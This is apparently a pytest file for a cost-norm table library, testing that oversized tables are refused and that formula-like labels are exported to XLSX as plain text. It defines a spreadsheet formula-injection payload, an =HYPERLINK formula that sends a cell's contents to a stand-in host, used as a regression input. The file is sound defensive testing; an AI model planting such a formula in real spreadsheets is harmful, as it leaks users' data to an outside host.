"""Hostile norm tables and spreadsheet outputs: too many rows, formula injection into XLSX."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

from hostilekit import bounded_child
from normkit_testpaths import FIXTURES

EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def test_a_table_with_more_than_200000_rows_is_refused_within_the_bounds(tmp_path):
    path = tmp_path / "huge.csv"
    row = "01.03.01.50.10,Bản tin,labour,Biên tập viên,công,0.04\n"
    path.write_text("code,name,component,title,unit,value\n" + row * 200_001, encoding="utf-8")
    out = bounded_child("norm table 200,001 rows (child process)", "from normkit.media.normtable import read_table",
                        f"read_table({str(path)!r})", seconds=15.0, mib=300)
    assert (out["code"], out["message"]) == ("NK801", "the table has more than 200000 rows; split it")


def _types(path: Path) -> set[str]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return {c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")}


def test_norm_table_export_writes_formula_like_text_as_text(tmp_path):
    """Regression: a title such as '=HYPERLINK(…)' from an imported table became a live formula in the exported XLSX."""
    from normkit.media.normtable import write_table

    out = tmp_path / "t.xlsx"
    write_table(out, ["code", "title"], [["01", EVIL]])
    assert _types(out) == {"s"}


def test_quote_xlsx_writes_formula_like_labels_as_text(tmp_path):
    """Regression: pack labels and item ids starting with '=' became live formulas in the quote's XLSX."""
    from normkit.api import load
    from normkit.media.xlsx import write_quote_xlsx

    text = (FIXTURES / "packs" / "tiny" / "pack.yaml").read_text(encoding="utf-8")
    text = text.replace('name: {vi: "Sản phẩm thử", en: "Test product"}', f"name: {{vi: '{EVIL}', en: '{EVIL}'}}")
    assert EVIL in text
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "pack.yaml").write_text(text, encoding="utf-8")
    q = load(tmp_path / "p", use_cache=False).quote({"id": "=1+1", "date": dt.date(2024, 7, 1),
                                                     "items": [{"id": "=2+2", "norm": "99.00.00.00.01"}]})
    out = tmp_path / "q.xlsx"
    write_quote_xlsx(q, out)
    # the pack's label and the ids stay text; the only formulas are the sheet's own calculations (ROUND, SUM, links)
    from openpyxl import load_workbook

    cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert {c.data_type for c in cells if "HYPERLINK" in c.value or c.value in ("=1+1", "=2+2")} == {"s"}
    assert any("HYPERLINK" in c.value for c in cells)
    own = re.compile(r"=(ROUND\(E\d+\*F\d+,0\)|SUM\(G\d+:G\d+\)|G\d+(\+G\d+)*|'Phân tích đơn giá'!G\d+)")
    assert all(own.fullmatch(c.value) for c in cells if c.data_type == "f")
